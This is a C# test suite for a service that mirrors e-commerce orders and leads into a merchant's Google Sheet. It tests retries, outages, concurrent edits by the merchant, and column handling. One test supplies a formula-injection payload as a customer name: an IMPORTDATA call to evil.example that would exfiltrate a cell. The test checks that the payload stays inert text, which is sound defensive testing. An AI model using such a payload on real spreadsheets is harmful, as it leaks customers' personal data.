using Microsoft.EntityFrameworkCore;
using OrderClosr.Ground.Jobs;
using OrderClosr.Ground.Values;
using OrderClosr.Orders;
using OrderClosr.Sheets;
using OrderClosr.Tests.Support;

namespace OrderClosr.Tests.Sheets;

/// <summary>Orders and leads stand in the merchant's sheet: each in one row, whatever fails and whatever the merchant does meanwhile.</summary>
public sealed class MirrorTests
{
    [Theory, OnBothDatabases]
    public async Task Orders_and_leads_are_written_follow_what_changes_and_stay_text(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database);
        Assert.Equal(SheetColumns.Usual.Count, (await world.CellsAsync())[0].Count);
        var first = await world.OrderAsync(c => c with { Name = "=IMPORTDATA(\"https://evil.example/?d=\"&B2)", Address = "+213 555, bât. 4", Note = "@appeler" });
        var second = await world.OrderAsync();
        var (talk, customer) = await OrderClosr.Tests.Agent.TurnWorld.AddConversationAsync(world.App, world.Shop);
        await using (var scope = world.Open())
            await scope.Db.InTransactionAsync(async () =>
            {
                await scope.Get<Leads>().NoteAsync(customer, talk, "Sac à main", "attend le salaire", default);
                await scope.Db.SaveChangesAsync();
            }, default);
        await world.RunAsync();

        var rows = await world.RowsAsync();
        Assert.Equal([first.Id.ToString(), second.Id.ToString()], rows.Select(r => r["ID"]));
        Assert.Equal(("=IMPORTDATA(\"https://evil.example/?d=\"&B2)", "0500000200", "+213 555, bât. 4", "@appeler", "Confirmée", $"{first.Total.Amount}", "Oran", "Bir El Djir"),
            (rows[0]["Nom"], rows[0]["Téléphone"], rows[0]["Adresse"], rows[0]["Note"], rows[0]["État"], rows[0]["Total"], rows[0]["Wilaya"], rows[0]["Commune"]));
        Assert.Empty((await world.DoorAsync(HttpMethod.Get, $"_sheets/{world.Sheet}"))!["formulas"]!.AsArray());
        var lead = Assert.Single(await world.RowsAsync(SheetsWorld.Leads));
        Assert.Equal(("Sac à main", "attend le salaire"), (lead["Produit"], lead["Note"]));

        await world.Orders.CancelAsync(first.Id);
        await world.RunAsync();
        Assert.Equal("Annulée", (await world.RowAsync(first.Id))["État"]);
        Assert.Equal(2, (await world.RowsAsync()).Count);
        // What is written is noted: nothing is left to do, and nothing is done again.
        await using (var scope = world.Open()) Assert.False(await scope.Db.SheetRows.AnyAsync(r => r.Wanted > r.Written));
        var before = (await world.DoorAsync(HttpMethod.Get, "_log"))!["items"]!.AsArray().Count(c => (string)c!["path"]! is var path && path.EndsWith(":batchUpdate", StringComparison.Ordinal));
        await world.TickAsync();
        Assert.Equal(before, (await world.DoorAsync(HttpMethod.Get, "_log"))!["items"]!.AsArray().Count(c => (string)c!["path"]! is var path && path.EndsWith(":batchUpdate", StringComparison.Ordinal)));
    }

    [Theory, OnBothDatabases]
    public async Task Whatever_the_line_does_each_order_has_one_row(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database);
        var orders = new List<Order>();
        var writes = $"/v4/spreadsheets/{world.Sheet}:batchUpdate";
        foreach (var (kind, status, path) in ((string, int?, string?)[])[("work-then-503", null, writes), ("timeout-after-work", null, writes), ("error", 503, null), ("error", 429, null), ("html", 502, writes), ("garbage", 200, writes), ("drop", null, writes), ("error", 500, "/token")])
        {
            await world.FaultAsync(kind, count: 2, status: status, path: path, seconds: 0);
            orders.Add(await world.OrderAsync());
            await world.RunAsync();
            await world.ClearAsync();
        }
        await world.FaultAsync("quota", "3");
        for (var i = 0; i < 3; i++) orders.Add(await world.OrderAsync());
        await world.RunAsync(TimeSpan.FromMinutes(3));
        await world.ClearAsync();
        await world.RunAsync();
        Assert.Equal(orders.Select(o => o.Id.ToString()), (await world.RowsAsync()).Select(r => r["ID"]));
        Assert.Equal(SheetState.Connected, (await world.ConnectionAsync()).State);
        // Never more in a minute than the account may, counted where they arrive.
        foreach (var limit in (await world.DoorAsync(HttpMethod.Get, "_limits"))!["items"]!.AsArray()) Assert.InRange((int)limit!["most"]!, 0, 50);
    }

    /// <remarks>Seen to fail: without <c>MirrorSheet.WaitAfter</c> the next look is an hour away.</remarks>
    [Theory, OnBothDatabases]
    public async Task After_an_outage_of_hours_the_sheet_is_written_within_a_minute(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database);
        await world.FaultAsync("error", status: 503);
        var order = await world.OrderAsync();
        await world.RunAsync(TimeSpan.FromHours(2));
        Assert.Equal(SheetState.Connected, (await world.ConnectionAsync()).State);
        Assert.DoesNotContain(await world.RowsAsync(), r => r["ID"] == order.Id.ToString());
        // It was not hammered meanwhile: about once a minute.
        Assert.InRange((await world.DoorAsync(HttpMethod.Get, "_log"))!["items"]!.AsArray().Count(c => (int)c!["status"]! == 503), 100, 140);

        await world.ClearAsync();
        await world.RunAsync(TimeSpan.FromSeconds(66));
        await world.RowAsync(order.Id);
    }

    [Theory, OnBothDatabases]
    public async Task A_merchant_who_sorts_inserts_renames_and_deletes_between_read_and_write_loses_nothing(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database);
        var orders = new List<Order>();
        for (var i = 0; i < 4; i++) orders.Add(await world.OrderAsync());
        await world.RunAsync();
        // The merchant's own column, a note of theirs beside each order, and a row of their own.
        await world.ActAsync(new { @do = "type", tab = SheetsWorld.Tab, cell = "R1", value = "A moi" });
        for (var r = 2; r <= 5; r++) await world.ActAsync(new { @do = "type", tab = SheetsWorld.Tab, cell = $"R{r}", value = $"note {(await world.CellsAsync())[r - 1][1]}" });
        await world.ActAsync(new { @do = "insert_row", tab = SheetsWorld.Tab, row = 6, cells = (string[])["", "", "", "", "Total du mois"] });

        async Task HoldsAsync(string what)
        {
            var rows = await world.RowsAsync();
            Assert.True(rows.Select(r => r["ID"]).Order(StringComparer.Ordinal).SequenceEqual(orders.Select(o => o.Id.ToString()).Order(StringComparer.Ordinal)), $"{what}: {string.Join(", ", rows.Select(r => r["ID"]))}");
            foreach (var order in orders)
            {
                var (row, now) = (rows.Single(r => r["ID"] == order.Id.ToString()), await world.Orders.ReadAsync(order.Id));
                Assert.Equal((what, now.State == OrderState.Cancelled ? "Annulée" : "Confirmée", $"{now.Number}", now.Phone!.Value.National), (what, row["État"], row["N°"], row["Téléphone"]));
            }
            // No cell of the merchant's changed: each note is beside its order, their row is as it was, their columns hold nothing of ours.
            var cells = await world.CellsAsync();
            var at = cells[0].IndexOf("A moi");
            Assert.All(rows.Where(r => r["A moi"].Length > 0), r => Assert.Equal($"note {r["N°"]}", r["A moi"]));
            Assert.Single(cells, r => r.Contains("Total du mois") && r.Count(c => c.Length > 0) == 1);
            foreach (var own in cells[0].Select((h, i) => (h, i)).Where(h => h.h is "Ma colonne" or "")) Assert.All(cells.Skip(1), r => Assert.Equal((what, ""), (what, own.i < r.Count ? r[own.i] : "")));
            Assert.True(at > 0);
        }
        await HoldsAsync("at first");

        // Each act right before the write (after the last look), then after the first look.
        var spine = $"/v4/spreadsheets/{world.Sheet}/values:batchGet";
        string Act(string text) => text.Replace("T'", SheetsWorld.Tab, StringComparison.Ordinal);
        var acts = (string[])[
            """{"do":"sort","tab":"T'","column":"B","descending":true}""", """{"do":"insert_column","tab":"T'","column":"B"}""", """{"do":"insert_column","tab":"T'","column":"E","value":"Ma colonne"}""", """{"do":"insert_row","tab":"T'","row":3}""",
            """{"do":"copy_row","tab":"T'","row":4}""", """{"do":"delete_row","tab":"T'","row":4}""", """{"do":"move_column","tab":"T'","column":"H","before":"C"}""", """[{"do":"sort","tab":"T'","column":"G"},{"do":"insert_column","tab":"T'","column":"D"}]"""];
        foreach (var path in (string[])[spine, $"/v4/spreadsheets/{world.Sheet}/values/"])
            for (var i = 0; i < acts.Length; i++)
            {
                await world.FaultAsync("merchant", Act(acts[i]), count: 1, path: path);
                // A new order and a change of an old one at once.
                orders.Add(await world.OrderAsync());
                if (i < 4) await (orders[i].State == OrderState.Cancelled ? Task.CompletedTask : world.Orders.CancelAsync(orders[i].Id));
                await world.RunAsync();
                await world.ClearAsync();
                await world.TickAsync();
                await HoldsAsync($"{acts[i]} at {path}");
            }
        Assert.Contains("moved_meanwhile", await world.ToldAsync());
        Assert.Contains("doubles_blanked", await world.ToldAsync());
        Assert.Contains("rows_missing", await world.ToldAsync());
    }

    /// <remarks>Seen to fail: with one note for both tabs the orders' round, which finds nothing to do, takes the leads' note for its own and strikes it out; the merchant's column keeps what we wrote into it.</remarks>
    [Theory, OnBothDatabases]
    public async Task A_write_into_the_leads_that_broke_off_is_put_right_whatever_the_orders_do_meanwhile(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database);
        var order = await world.OrderAsync();
        var (talk, customer) = await OrderClosr.Tests.Agent.TurnWorld.AddConversationAsync(world.App, world.Shop);
        Task NoteAsync(string note) => world.DoAsync(scope => scope.Db.InTransactionAsync(() => scope.Get<Leads>().NoteAsync(customer, talk, "Sac à main", note, default), default));
        await NoteAsync("attend le salaire");
        await world.RunAsync();
        foreach (var (note, isOrderChanged) in ((string, bool)[])[("veut le rouge", false), ("veut le noir", true)])
        {
            // Right behind the last look the merchant puts a column where the note stood; it is written, and the line breaks before it is looked at.
            var at = (char)('A' + (await world.CellsAsync(SheetsWorld.Leads))[0].IndexOf("Note"));
            await NoteAsync(note);
            await world.BetweenAsync($$"""{"do":"insert_column","tab":"{{SheetsWorld.Leads}}","column":"{{at}}","value":"À moi {{at}}"}""");
            await world.FaultAsync("work-then-503", count: 1, path: $"/v4/spreadsheets/{world.Sheet}:batchUpdate");
            var (runner, lane) = (world.App.Get<JobRunner>(), $"sheet/{world.Sheet}");
            while (!(await world.CellsAsync(SheetsWorld.Leads))[0].Contains($"À moi {at}") && await runner.NextDueAsync(lane, default) is { } next)
            {
                if (next > world.Clock.GetUtcNow()) world.Clock.Advance(next - world.Clock.GetUtcNow());
                await runner.RunDueAsync(lane, default);
            }
            Assert.Equal(note, Assert.Single(await world.RowsAsync(SheetsWorld.Leads))[$"À moi {at}"]);
            if (isOrderChanged) await world.Orders.CancelAsync(order.Id);
            await world.RunAsync();
            var lead = Assert.Single(await world.RowsAsync(SheetsWorld.Leads));
            Assert.Equal(("", note), (lead[$"À moi {at}"], lead["Note"]));
        }
        Assert.Equal("Annulée", (await world.RowAsync(order.Id))["État"]);
    }

    /// <remarks>To see it fail: when the plan may not follow (<c>AimAsync</c> asking <c>grid.Has</c> alone) nothing is ever written; without <c>KeepNewOnly</c> the new order waits for the old one's row to rest.</remarks>
    [Theory, OnBothDatabases]
    public async Task A_merchant_whose_hand_never_rests_delays_a_row_and_starves_none(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database);
        var old = await world.OrderAsync();
        await world.RunAsync();
        var push = $$"""{"do":"insert_row","tab":"{{SheetsWorld.Tab}}","row":2}""";

        // Whenever we have looked at the whole tab, everything is pushed down: what was meant for a row follows it.
        await world.FaultAsync("merchant", push, path: $"/v4/spreadsheets/{world.Sheet}/values/");
        var next = await world.OrderAsync();
        await world.Orders.CancelAsync(old.Id);
        await world.RunAsync(TimeSpan.FromMinutes(3));
        Assert.Equal(("Annulée", "Confirmée"), ((await world.RowAsync(old.Id))["État"], (await world.RowAsync(next.Id))["État"]));

        // Whenever we look at all, right before the write, too: what is new needs no place and comes all the same.
        await world.FaultAsync("merchant", push, path: $"/v4/spreadsheets/{world.Sheet}/values:batchGet");
        var last = await world.OrderAsync();
        await world.Orders.CancelAsync(next.Id);
        await world.RunAsync(TimeSpan.FromMinutes(3));
        await world.RowAsync(last.Id);

        // The hand rests: the rest is there within minutes, and nothing of ours stands in the rows that were pushed in.
        await world.ClearAsync();
        await world.TickAsync();
        Assert.Equal(("Annulée", "Annulée", "Confirmée"), ((await world.RowAsync(old.Id))["État"], (await world.RowAsync(next.Id))["État"], (await world.RowAsync(last.Id))["État"]));
        Assert.Equal(4, (await world.CellsAsync()).Count(r => r.Exists(c => c.Length > 0)));
    }

    [Theory, OnBothDatabases]
    public async Task Heads_and_tabs_may_be_renamed_and_a_column_taken_away(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database);
        var order = await world.OrderAsync();
        await world.RunAsync();
        await world.ActAsync(new { @do = "type", tab = SheetsWorld.Tab, cell = "E1", value = "Client" });
        await world.ActAsync(new { @do = "type", tab = SheetsWorld.Tab, cell = "A1", value = "Identifiant" });
        await world.ActAsync(new { @do = "rename_tab", tab = SheetsWorld.Tab, value = "Ventes" });
        await world.ActAsync(new { @do = "delete_column", tab = "Ventes", column = "C" });
        await world.Orders.CancelAsync(order.Id);
        await world.RunAsync();
        var cells = await world.CellsAsync("Ventes");
        Assert.Equal(("Identifiant", "Client", "Annulée", order.Id.ToString(), 2), (cells[0][0], cells[0][3], cells[1][2], cells[1][0], cells.Count));
        var told = await world.ToldAsync();
        foreach (var code in (string[])["tab_renamed", "column_renamed", "column_gone"]) Assert.Contains(code, told);

        // The head row is deleted: it comes back above what is there.
        await world.ActAsync(new { @do = "delete_row", tab = "Ventes", row = 1 });
        var next = await world.OrderAsync();
        await world.RunAsync();
        cells = await world.CellsAsync("Ventes");
        Assert.Equal(("Identifiant", order.Id.ToString(), next.Id.ToString(), 3), (cells[0][0], cells[1][0], cells[2][0], cells.Count));

        // The ids are gone: nothing is guessed.
        await world.ActAsync(new { @do = "delete_column", tab = "Ventes", column = "A" });
        await world.OrderAsync();
        await world.RunAsync();
        Assert.Equal((SheetState.Broken, SheetTrouble.IdColumnGone), ((await world.ConnectionAsync()).State, (await world.ConnectionAsync()).Trouble));
    }

    [Theory, OnBothDatabases]
    public async Task What_a_person_must_mend_stops_the_mirror_keeps_what_changes_and_goes_on_when_mended(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database);
        async Task BreaksAsync(string trouble, Func<Task> break_, Func<Task> mend)
        {
            await break_();
            var order = await world.OrderAsync();
            await world.RunAsync();
            Assert.Equal((SheetState.Broken, trouble), ((await world.ConnectionAsync()).State, (await world.ConnectionAsync()).Trouble));
            var while_ = await world.OrderAsync();
            Assert.Equal($"sheet_{trouble}", (await world.DoAsync(s => s.Get<ConnectSheet>().TestAsync(default)))?.Code);
            await mend();
            Assert.Null(await world.DoAsync(s => s.Get<ConnectSheet>().TestAsync(default)));
            await world.RunAsync();
            foreach (var id in (OrderId[])[order.Id, while_.Id]) await world.RowAsync(id);
            // The hour in which a token lasts is over: the next mistake is met from the beginning.
            world.Clock.Advance(TimeSpan.FromMinutes(61));
        }
        await BreaksAsync(SheetTrouble.NotShared, () => world.DoorAsync(HttpMethod.Post, $"_sheets/{world.Sheet}/share", new { email = SheetsWorld.Email, role = "none" }), () => world.DoorAsync(HttpMethod.Post, $"_sheets/{world.Sheet}/share", new { email = SheetsWorld.Email }));
        await BreaksAsync(SheetTrouble.ReadOnly, () => world.DoorAsync(HttpMethod.Post, $"_sheets/{world.Sheet}/share", new { email = SheetsWorld.Email, role = "reader" }), () => world.DoorAsync(HttpMethod.Post, $"_sheets/{world.Sheet}/share", new { email = SheetsWorld.Email }));
        await BreaksAsync(SheetTrouble.ApiDisabled, () => world.FaultAsync("api-disabled"), world.ClearAsync);
        await BreaksAsync(SheetTrouble.KeyRefused, () => world.FaultAsync("key-deleted"), world.ClearAsync);
        await BreaksAsync(SheetTrouble.ClockWrong, () => world.FaultAsync("clock-skew"), world.ClearAsync);
        await using var scope = world.Open();
        Assert.Equal(5, await scope.Db.Jobs.CountAsync(j => j.Kind == SendSheetLetter.Kind));
    }

    [Theory, OnBothDatabases]
    public async Task States_and_notes_typed_into_the_sheet_are_taken_over_by_the_orders_own_rules(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database);
        var order = await world.OrderAsync();
        var other = await world.OrderAsync();
        await world.RunAsync();
        Task TypeAsync(string cell, string value) => world.ActAsync(new { @do = "type", tab = SheetsWorld.Tab, cell, value });
        await TypeAsync("D2", "annulee");
        await TypeAsync("M3", "livrer avant midi");
        await world.TickAsync();
        Assert.Equal((OrderState.Cancelled, "livrer avant midi"), ((await world.Orders.ReadAsync(order.Id)).State, (await world.Orders.ReadAsync(other.Id)).Note));
        Assert.Equal("Annulée", (await world.RowAsync(order.Id))["État"]);
        var move = (await world.Orders.MovesAsync(order.Id))[^1];
        Assert.Equal((ActorKind.Member, "changed_in_sheet"), (move.Actor, move.Reason));

        // Not allowed or not known: written back, and said.
        await TypeAsync("D2", "مؤكد");
        await TypeAsync("D3", "n'importe quoi");
        await world.TickAsync();
        Assert.Equal(("Annulée", "Confirmée"), ((await world.RowAsync(order.Id))["État"], (await world.RowAsync(other.Id))["État"]));
        await TypeAsync("D3", "Reportée");
        await TypeAsync("E3", "Quelqu'un d'autre");
        await world.TickAsync();
        Assert.Equal((OrderState.Cancelled, OrderState.Confirmed, "Confirmée"), ((await world.Orders.ReadAsync(order.Id)).State, (await world.Orders.ReadAsync(other.Id)).State, (await world.RowAsync(other.Id))["État"]));
        var told = await world.ToldAsync();
        foreach (var code in (string[])["read_back", "refused_state_unknown", "refused_move_not_allowed"]) Assert.Contains(code, told);
        // Other columns are ours: compared every few hours, and written as they are here.
        world.Clock.Advance(TimeSpan.FromHours(4));
        await world.TickAsync();
        Assert.Equal("Amina Belkacem", (await world.RowAsync(other.Id))["Nom"]);
    }

    [Theory, OnBothDatabases]
    public async Task Columns_are_chosen_and_ordered_and_everything_can_be_written_anew(Database database)
    {
        await using var world = await SheetsWorld.StartAsync(database, connected: false);
        for (var i = 0; i < 3; i++) await world.OrderAsync();
        await world.ConnectAsync(); // orders of before are written, too
        Assert.Equal(3, (await world.RowsAsync()).Count);
        Assert.Null(await world.DoAsync(s => s.Get<ConnectSheet>().ChooseAsync(new(["total", "name", "number", "source"], null, true, false), default)));
        await world.RunAsync();
        Assert.Equal("prise par l'agent", (await world.RowsAsync())[0]["Source"]);
        Assert.Equal(["id", "total", "name", "number", "source"], (await world.ConnectionAsync()).Columns.Select(c => c.Key));

        // A fresh tab gets exactly these, in this order.
        await world.ActAsync(new { @do = "add_tab", value = "Neuf" });
        await world.TickAsync();
        var tab = (await world.ConnectionAsync()).Tabs.Single(t => t.Title == "Neuf").Id;
        Assert.Null(await world.DoAsync(s => s.Get<ConnectSheet>().ChooseAsync(new(["total", "name", "number"], tab, true, false), default)));
        await world.RunAsync();
        Assert.Equal(["ID", "Total", "Nom", "N°"], (await world.CellsAsync("Neuf"))[0]);
        Assert.Equal(3, (await world.RowsAsync("Neuf")).Count);
        // One that holds something else is not written over.
        await world.ActAsync(new { @do = "add_tab", value = "Pris" });
        await world.ActAsync(new { @do = "type", tab = "Pris", cell = "A1", value = "Mes comptes" });
        await world.TickAsync();
        var taken = (await world.ConnectionAsync()).Tabs.Single(t => t.Title == "Pris").Id;
        Assert.Null(await world.DoAsync(s => s.Get<ConnectSheet>().ChooseAsync(new(["total", "name"], taken, true, false), default)));
        await world.RunAsync();
        Assert.Equal(SheetTrouble.HeadTaken, (await world.ConnectionAsync()).Trouble);
        Assert.Equal([["Mes comptes"]], await world.CellsAsync("Pris"));
        Assert.Null(await world.DoAsync(s => s.Get<ConnectSheet>().ChooseAsync(new(["total", "name", "number"], tab, true, false), default)));
        Assert.Null(await world.DoAsync(s => s.Get<ConnectSheet>().TestAsync(default)));
        await world.RunAsync();
        await world.ActAsync(new { @do = "delete_row", tab = "Neuf", row = 2 });
        Assert.Null(await world.DoAsync(s => s.Get<ConnectSheet>().ResyncAsync(default)));
        await world.RunAsync();
        Assert.Equal(3, (await world.RowsAsync("Neuf")).Count);

        // Disconnected: the key is gone, the sheet stays as it is.
        Assert.Null(await world.DoAsync(s => s.Get<ConnectSheet>().DisconnectAsync(default)));
        await world.OrderAsync();
        await world.RunAsync();
        Assert.Equal(3, (await world.RowsAsync("Neuf")).Count);
        Assert.Null((await world.ConnectionAsync()).ServiceAccount);
    }
}
